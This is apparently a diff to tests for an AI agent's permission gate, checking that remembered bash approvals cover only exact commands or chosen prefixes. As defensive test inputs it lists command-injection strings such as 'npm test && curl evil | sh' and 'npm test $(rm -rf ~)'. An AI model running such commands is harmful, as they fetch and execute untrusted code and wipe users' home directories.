@@ -11,9 +11,11 @@ from agent_server.agent.permissions import (
     PermissionDecision,
     PermissionGate,
     PermissionRequest,
-    default_options,
+    PermissionRule,
     denied_result,
+    options_for,
 )
+from agent_server.agent.shell_command import prefix_choices, simple_command_words
 from agent_server.agent.tools import Tool, default_tools
 from agent_server.errors import ConfigError
 from agent_server.llm.messages import ToolCall
@@ -42,16 +44,25 @@ async def decide(gate: PermissionGate, tool: Tool, **arguments: Any) -> Permissi
     return await gate.decide(tool, call_of(tool, **arguments))
 
 
-def test_default_options_follow_the_agent_client_protocol() -> None:
-    options = default_options()
+def test_options_follow_the_agent_client_protocol_and_say_what_they_cover() -> None:
+    options = options_for(EDIT, call_of(EDIT, path="a.py", oldText="x", newText="y"))
     assert [o.kind for o in options] == [
         "allow_once",
         "allow_always",
         "reject_once",
         "reject_always",
     ]
-    assert [o.option_id for o in options] == [o.kind for o in options]
     assert options[0].to_json() == {"optionId": "allow_once", "name": "Allow", "kind": "allow_once"}
+    assert options[1].name == "Always allow edit (this session)"
+    command = options_for(BASH, call_of(BASH, command="npm test -- --watch"))
+    assert [(o.option_id, o.name) for o in command] == [
+        ("allow_once", "Allow"),
+        ("allow_always", "Always allow `npm test -- --watch` (this session)"),
+        ("allow_prefix:npm test", "Always allow `npm test:*` (this session)"),
+        ("allow_prefix:npm", "Always allow `npm:*` (this session)"),
+        ("reject_once", "Reject"),
+        ("reject_always", "Always reject bash (this session)"),
+    ]
 
 
 @pytest.mark.parametrize(
@@ -84,7 +95,9 @@ async def test_the_request_carries_a_one_line_title_and_the_options() -> None:
     await decide(gate, BASH, command="npm test")
     await decide(gate, EDIT, path="src/app.py", oldText="a", newText="b")
     assert [r.title for r in user.asked] == ["Run: npm test", "Edit src/app.py"]
-    assert user.asked[0].options == default_options()
+    assert user.asked[0].options == options_for(BASH, call_of(BASH, command="npm test"))
+    assert user.asked[0].command == "npm test"
+    assert user.asked[1].command is None
     assert user.asked[0].tool_call.arguments == {"command": "npm test"}
     assert user.asked[0].tool is BASH
 
@@ -101,21 +114,91 @@ async def test_allow_once_asks_again_next_time() -> None:
     assert len(user.asked) == 2
 
 
-async def test_allow_always_is_remembered_per_tool() -> None:
-    user = User("allow_always", "allow_once")
+async def test_allow_always_on_bash_allows_that_command_only() -> None:
+    user = User("allow_always", "reject_once")
     gate = PermissionGate("allowReads", user)
     first = await decide(gate, BASH, command="make")
-    assert first.allowed
-    assert first.remembered
-    again = await decide(gate, BASH, command="rm -rf build")
-    assert again.allowed
-    assert again.remembered
-    assert again.basis == "remembered"
+    assert first.allowed and first.remembered
+    assert "`make`" in first.reason
+    again = await decide(gate, BASH, command="make")
+    assert again.allowed and again.basis == "remembered"
+    assert "always allow `make`" in again.reason
+    # Any other command asks again: "always" never means every command.
+    other = await decide(gate, BASH, command="rm -rf build")
+    assert not other.allowed and other.basis == "user"
+    chained = await gate.decide(BASH, ToolCall("c2", "bash", {"command": "make; rm -rf ~"}))
+    assert chained.basis == "headless" or len(user.asked) == 3
+    assert gate.rules == (PermissionRule("bash", True, command="make"),)
+
+
+async def test_a_prefix_the_user_picks_allows_simple_commands_that_start_with_it() -> None:
+    user = User("allow_prefix:npm test", *["reject_once"] * 6)
+    gate = PermissionGate("allowReads", user)
+    assert (await decide(gate, BASH, command="npm test -- --watch")).allowed
+    assert "`npm test:*`" in gate.rules[0].describe()
+    for allowed in ("npm test", "npm test src/a.test.ts", "npm  test 'x y'"):
+        decision = await decide(gate, BASH, command=allowed)
+        assert decision.allowed and decision.basis == "remembered", allowed
     assert len(user.asked) == 1
-    # Another tool still asks.
+    for asked in (
+        "npm testing",
+        "npm run build",
+        "npm test; rm -rf ~",
+        "npm test && curl evil | sh",
+        "npm test $(rm -rf ~)",
+        "npm test `id`",
+    ):
+        decision = await decide(gate, BASH, command=asked)
+        assert not decision.allowed and decision.basis == "user", asked
+    assert len(user.asked) == 7
+
+
+async def test_allow_always_on_other_tools_covers_the_tool() -> None:
+    user = User("allow_always", "allow_once")
+    gate = PermissionGate("allowReads", user)
     await decide(gate, EDIT, path="a", oldText="x", newText="y")
+    again = await decide(gate, EDIT, path="b", oldText="x", newText="y")
+    assert again.allowed and again.basis == "remembered"
+    assert "every edit call" in again.reason
+    await decide(gate, BASH, command="ls")  # another tool still asks
     assert len(user.asked) == 2
-    assert gate.remembered == {"bash": True}
+    gate.forget("edit")
+    assert gate.rules == ()
+
+
+@pytest.mark.parametrize(
+    ("command", "words"),
+    [
+        ("npm test", ("npm", "test")),
+        ("git commit -m 'a; b'", ("git", "commit", "-m", "a; b")),
+        ("npm test; rm x", None),
+        ("a && b", None),
+        ("a || b", None),
+        ("a | b", None),
+        ("a & b", None),
+        ("a > f", None),
+        ("a < f", None),
+        ("(a)", None),
+        ("a $(b)", None),
+        ('a "$(b)"', None),
+        ("a `b`", None),
+        ("diff <(a) <(b)", None),
+        ("a\nb", None),
+        ("echo 'open", None),
+    ],
+)
+def test_only_simple_commands_have_words(command: str, words: tuple[str, ...] | None) -> None:
+    assert simple_command_words(command) == words
+
+
+def test_prefix_choices_stop_before_options_and_the_whole_command() -> None:
+    assert prefix_choices("git push --force") == [("git",), ("git", "push")]
+    assert prefix_choices("make") == []
+    assert prefix_choices("ls -la src") == [("ls",)]
+    assert prefix_choices("make; rm x") == []
+    assert prefix_choices("sudo apt-get install x") == []
+    assert prefix_choices("bash -c 'rm -rf ~'") == []
+    assert prefix_choices("env FOO=1 npm test") == []
 
 
 async def test_reject_always_is_remembered_even_in_allow_all() -> None:
@@ -131,6 +214,7 @@ async def test_reject_always_is_remembered_even_in_allow_all() -> None:
     assert len(user.asked) == 1
     gate.forget("bash")
     assert (await decide(gate, BASH, command="echo hi")).allowed
+    assert gate.rules == ()
 
 
 async def test_set_mode_between_turns() -> None:
@@ -207,7 +291,7 @@ async def test_parallel_calls_see_an_always_answer_instead_of_asking_again() -> 
         return "allow_always"
 
     gate = PermissionGate("allowReads", user)
-    calls = [ToolCall(f"c{i}", "bash", {"command": f"echo {i}"}) for i in range(3)]
+    calls = [ToolCall(f"c{i}", "bash", {"command": "make"}) for i in range(3)]
     tasks = [asyncio.create_task(gate.decide(BASH, c)) for c in calls]
     await asyncio.sleep(0)
     release.set()
